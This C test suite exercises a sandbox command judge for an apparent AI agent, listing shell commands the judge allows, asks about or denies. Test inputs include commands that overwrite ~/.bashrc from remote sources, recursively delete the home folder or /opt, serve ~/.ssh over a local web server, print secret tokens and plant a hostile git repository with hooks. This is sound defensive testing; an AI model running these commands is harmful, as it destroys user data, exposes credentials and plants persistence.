/* Where copies land and what goes away on the other side of them; what containers do to folders out here. */
#include <check.h>

#include "judge_text.h"

Suite *judge_copies_suite(void);

#define ALLOW   SBX_ALLOW, SBX_CLASS_NONE
#define ASK(c)  SBX_ASK, SBX_CLASS_##c
#define DENY(c) SBX_DENY, SBX_CLASS_##c

START_TEST(what_is_fetched_lands)
{
    static const struct judged cases[] = {
        {DENY(PERSISTENCE), "aws s3 cp s3://b/x ~/.bashrc"                           },
        {DENY(PERSISTENCE), "gsutil cp gs://b/x ~/.bashrc"                           },
        {DENY(PERSISTENCE), "kubectl cp pod:/x /home/agent/.bashrc"                  },
        {DENY(PERSISTENCE), "scp h:x ~/.bashrc"                                      },
        {DENY(PERSISTENCE), "rclone copyto r:x ~/.bashrc"                            },
        {DENY(PERSISTENCE), "svn checkout https://x.example/r ~/.config/fish"        },
        {DENY(PERSISTENCE), "wget -P ~/.config/fish https://x.example/config.fish"   },
        {DENY(PERSISTENCE), "aria2c -d ~/.config/fish https://x.example/config.fish" },
        {DENY(PERSISTENCE), "curl --output-dir ~/.config/fish -O https://x.example/a"},
        {DENY(PERSISTENCE), "python3 -m zipfile -e x.zip /home/agent/.config/nvim"   },
        {DENY(PERSISTENCE), "magick a.png txt:/home/agent/.bashrc"                   },
        {DENY(PERSISTENCE), "gawk -i inplace '{print}' ~/.bashrc"                    },
        {DENY(PERSISTENCE), "crudini --set ~/.gitconfig core editor x"               },
        {DENY(PERSISTENCE), "ar r ~/.bashrc x"                                       },
        {DENY(PATH),        "cmake --install build --prefix /usr"                    },
        {ALLOW,             "aws s3 cp s3://b/x data/"                               },
        {ALLOW,             "svn checkout https://x.example/r vendor/r"              },
        {ALLOW,             "wget -P dl https://x.example/a"                         },
        {ALLOW,             "python3 -m zipfile -l x.zip"                            },
        {ALLOW,             "python3 -m zipfile -e x.zip out"                        },
        {ALLOW,             "convert a.png -resize 50% b.png"                        },
        {ALLOW,             "gawk -i inplace '{print}' a.txt"                        },
        {ALLOW,             "ar t /usr/lib/libc.a"                                   },
        {ALLOW,             "cmake --install build --prefix out"                     },
        {ALLOW,             "cmake -B build --install-prefix /usr"                   },
    };
    EXPECT(cases);
}
END_TEST

START_TEST(written_by_the_way)
{
    static const struct judged cases[] = {
        {DENY(PATH),       "ed -s /opt/x <<< $'1d\\nw'"                },
        {DENY(PATH),       "vim -es -c '%d' -c wq /opt/x"              },
        {DENY(PATH),       "ex -sc '%d|x' /opt/x"                      },
        {DENY(PATH),       "patch -d / -p0 < x.patch"                  },
        {DENY(PATH),       "mktemp -p /opt"                            },
        {DENY(PATH),       "pip install --target /usr/lib/python3 x"   },
        {DENY(PATH),       "sqlite3 /opt/x.db 'create table t(a)'"     },
        {DENY(PATH),       "rename 's/a/b/' /usr/bin/*"                },
        {DENY(FS_DESTROY), "convmv -f latin1 -t utf8 --notest /opt"    },
        {DENY(FS_DESTROY), "ruby -e 'FileUtils.remove_dir(\"/opt\")'"  },
        {DENY(FS_DESTROY), "Rscript -e 'unlink(\"~\", recursive=TRUE)'"},
        {ALLOW,            "ed -s a.txt <<< $'1d\\nw'"                 },
        {ALLOW,            "vim -c 'set nu' /etc/hosts"                },
        {ALLOW,            "patch -d sub -p1 < x.patch"                },
        {ALLOW,            "mktemp -p build"                           },
        {ALLOW,            "pip install --target vendor x"             },
        {ALLOW,            "sqlite3 /usr/share/x.db 'select 1'"        },
        {ALLOW,            "rename -n 's/a/b/' /usr/bin/*"             },
        {ALLOW,            "rename 's/a/b/' *.txt"                     },
    };
    EXPECT(cases);
}
END_TEST

START_TEST(trees_kept_alike)
{
    static const struct judged cases[] = {
        {DENY(FS_DESTROY), "rclone sync /tmp/empty /home/agent"},
        {DENY(FS_DESTROY), "rclone purge /home/agent"          },
        {DENY(FS_DESTROY), "gio remove /usr/share/x"           },
        {DENY(FS_DESTROY), "tmpreaper 0 /home/agent"           },
        {DENY(FS_DESTROY), "fdupes -dN /etc"                   },
        {DENY(FS_DESTROY), "rdfind -deleteduplicates true /usr"},
        {ALLOW,            "rclone sync -n src dst"            },
        {ALLOW,            "rclone copy src dst"               },
        {ALLOW,            "gio list src"                      },
        {ALLOW,            "fdupes -r ."                       },
        {ALLOW,            "rdfind -dryrun true src"           },
    };
    EXPECT(cases);
}
END_TEST

START_TEST(folders_in_containers)
{
    static const struct judged cases[] = {
        {ASK(FS_DESTROY),  "docker run --rm -v \"$PWD\":/src alpine rm -rf /src"                },
        {ASK(FS_DESTROY),  "docker run -v \"$PWD\":/src -w /src alpine rm -rf ."                },
        {DENY(FS_DESTROY),
         "podman run --mount type=bind,src=/home/agent/work,dst=/w alpine find /w -delete"      },
        {ASK(PERM_CHANGE), "docker run -v ./data:/d alpine chmod -R 777 /d"                     },
        {DENY(CRED_READ),  "docker build --secret id=k,src=/home/agent/.ssh/config ."           },
        {DENY(CRED_READ),  "kubectl create secret generic k --from-file=/home/agent/.ssh/config"},
        {ASK(CRED_READ),   "docker run --env-file .env alpine env"                              },
        {ASK(CRED_READ),   "docker compose exec db printenv"                                    },
        {ALLOW,            "docker run --rm -v \"$PWD\":/src alpine rm -rf /src/build"          },
        {ALLOW,            "docker run --rm -v \"$PWD\":/src alpine rm -rf /usr"                },
        {ALLOW,            "docker run --rm alpine rm -rf /"                                    },
        {ALLOW,            "docker run --rm -v \"$PWD\":/w -w /w node:20 npm ci"                },
    };
    EXPECT(cases);
}
END_TEST

/* A repository is put together of its parts, in whatever order and by whatever tool. */
START_TEST(parts_of_repositories)
{
    static const struct judged cases[] = {
        {ASK(PLANTED_REPO),  "cp evil.git/HEAD HEAD"                                  },
        {ASK(PLANTED_REPO),  "mv evil.git/config config"                              },
        {ASK(PLANTED_REPO),  "cp -r evil.git/hooks hooks"                             },
        {ASK(PLANTED_REPO),  "ln -s ../x.git/refs ."                                  },
        {DENY(PLANTED_REPO), "cp -rT evil.git ."                                      },
        {DENY(PLANTED_REPO), "ln -s evil/{HEAD,objects,refs} ."                       },
        {DENY(PLANTED_REPO), "find evil.git -mindepth 1 -maxdepth 1 -exec mv {} . \\;"},
        {DENY(PLANTED_REPO), "git init --bare ."                                      },
        {DENY(PLANTED_REPO), "git clone --bare https://x.example/r ."                 },
        {ASK(PERSISTENCE),   "cp evil/config .git/config"                             },
        {ALLOW,              "git init --bare ../r.git"                               },
        {ALLOW,              "mkdir r.git && cd r.git && git init --bare"             },
        {ALLOW,              "git clone --mirror https://x.example/r ../r.git"        },
        {ALLOW,              "cp .git/config /tmp/config.bak"                         },
        {ALLOW,              "cp -r vendor/x.git vendor/y.git"                        },
    };
    EXPECT(cases);
}
END_TEST

START_TEST(secrets_in_passing)
{
    static const struct judged cases[] = {
        {ASK(CRED_READ),  "git show HEAD:.env"                     },
        {ASK(CRED_READ),  "node -p process.env.NPM_TOKEN"          },
        {ASK(CRED_READ),  "declare -p GITHUB_TOKEN"                },
        {ASK(CRED_READ),  "ps eww"                                 },
        {ASK(CRED_READ),  "ps auxe"                                },
        {DENY(CRED_READ), "python3 -m http.server -d ~/.ssh"       },
        {DENY(CRED_READ), "php -S 127.0.0.1:80 -t /home/agent/.ssh"},
        {ALLOW,           "git show HEAD:src/a.c"                  },
        {ALLOW,           "node -p process.env.PATH"               },
        {ALLOW,           "declare -p PATH"                        },
        {ALLOW,           "ps aux"                                 },
        {ALLOW,           "ps -ef"                                 },
    };
    EXPECT(cases);
}
END_TEST

Suite *judge_copies_suite(void)
{
    Suite *suite = suite_create("judge_copies");
    TCase *tcase = tcase_create("copies");
    tcase_add_test(tcase, what_is_fetched_lands);
    tcase_add_test(tcase, written_by_the_way);
    tcase_add_test(tcase, trees_kept_alike);
    tcase_add_test(tcase, folders_in_containers);
    tcase_add_test(tcase, parts_of_repositories);
    tcase_add_test(tcase, secrets_in_passing);
    suite_add_tcase(suite, tcase);
    return suite;
}
